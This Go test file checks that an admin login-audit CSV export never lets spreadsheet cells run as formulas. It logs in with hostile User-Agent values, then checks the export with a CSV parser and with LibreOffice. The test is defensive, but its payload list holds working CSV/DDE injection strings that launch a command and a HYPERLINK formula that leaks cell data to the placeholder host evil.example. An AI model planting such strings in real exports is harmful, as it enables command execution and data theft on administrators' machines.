package attack

import (
	"encoding/csv"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"
)

// formulaPayloads are client-chosen strings that reach an export (here, as
// the User-Agent of a login): each would run as a formula in some
// spreadsheet if written as is. The first one only after a spreadsheet in
// a semicolon locale splits the cell at its ';'.
var formulaPayloads = []string{
	`x;=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"open")`,
	`+1+1`,
	`-1+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"＝1+1",
	"＋1+1",
	"－1+1",
	"＠SUM(1,1)",
	`x,=1+1`,
	"x\t=1+1",
	`"=1+1`,
	` =1+1`,
	`a;"=1+1";b`,
	`a =1+1`,
	`a|=2+2`,
	`a:=3+3`,
}

// An export an administrator opens in a spreadsheet must show every cell as
// text, whatever a client put in it, in both the comma and the semicolon
// locales. LibreOffice Calc imports the CSV with formula evaluation on and
// saves it as flat XML, where a formula cell is plain to see.
func TestExportedCellsNeverRunAsFormulas(t *testing.T) {
	t.Parallel()
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatal("no spreadsheet engine: install LibreOffice Calc with `apt-get install -y libreoffice-calc-nogui` (.ci/run does)")
	}
	db := freshDB(t)
	fake := startFake(t)
	in := startInstance(t, db, fake, nil)
	for i, ua := range formulaPayloads {
		a := call(t, "POST", in.base+"/api/v1/login", "", map[string]string{"code": fake.login(t, fmt.Sprint("user-", i))}, "User-Agent", ua)
		if a.Status != 200 {
			t.Fatalf("login with User-Agent %q: %s", ua, a)
		}
	}
	password := createAdmin(t, db, "root", "admin")
	admin := newBrowser(in.base)
	if r := admin.signIn(t, "root", password); !signedIn(r) {
		t.Fatalf("sign in: %s", r)
	}
	export := admin.do(t, "POST", "/admin/audit/logins/export", url.Values{})
	if export.Status != 200 {
		t.Fatalf("export: %s", export)
	}
	for _, core := range []string{"cmd|' /C calc'!A0", "SUM(1+1)", "1+1"} {
		if !strings.Contains(string(export.Raw), core) {
			t.Fatalf("the export lost the payload %q: the test would prove nothing", core)
		}
	}

	for _, sep := range []rune{',', ';', '\t', ' ', '|', ':', '/'} {
		t.Run(fmt.Sprintf("split at %q as a spreadsheet would", sep), func(t *testing.T) {
			r := csv.NewReader(strings.NewReader(string(export.Raw)))
			r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if startsAFormula(cell) {
						t.Fatalf("cell %q would be a formula (row %q)", cell, row)
					}
				}
			}
		})
	}

	dir := t.TempDir()
	src := filepath.Join(dir, "login_audit.csv")
	if err := os.WriteFile(src, export.Raw, 0o600); err != nil {
		t.Fatal(err)
	}
	formula := regexp.MustCompile(`table:formula="[^"]*"`)
	for _, sep := range []struct {
		name  string
		ascii int
	}{{"comma", 44}, {"semicolon", 59}, {"space", 32}, {"bar", 124}, {"colon", 58}} {
		t.Run("LibreOffice Calc, "+sep.name+" separated", func(t *testing.T) {
			out := filepath.Join(dir, sep.name)
			// Tokens: separator, text delimiter ("), UTF-8, first line 1, …,
			// and the 13th: evaluate formulas.
			filter := fmt.Sprintf("CSV:%d,34,76,1,,0,false,true,false,false,false,-1,true", sep.ascii)
			cmd := exec.Command(soffice, "--headless", "--norestore", "-env:UserInstallation=file://"+filepath.Join(dir, "profile-"+sep.name),
				"--infilter="+filter, "--convert-to", "fods", "--outdir", out, src)
			if b, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("soffice: %v\n%s", err, b)
			}
			sheet, err := os.ReadFile(filepath.Join(out, "login_audit.fods"))
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(string(sheet), "login") {
				t.Fatal("the converted sheet holds none of the rows: the test would prove nothing")
			}
			if m := formula.FindAll(sheet, 5); m != nil {
				t.Fatalf("LibreOffice made formulas of exported cells: %q", m)
			}
		})
	}
}

// startsAFormula reports whether a spreadsheet would read cell as a
// formula: after spaces and quotes, one of = + - @ (or their full-width
// forms, which CJK input methods type), unless it is a plain number.
func startsAFormula(cell string) bool {
	s := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || r == '"' })
	if s == "" {
		return false
	}
	if regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`).MatchString(s) {
		return false
	}
	return strings.ContainsRune("=+-@＝＋－＠", []rune(s)[0])
}
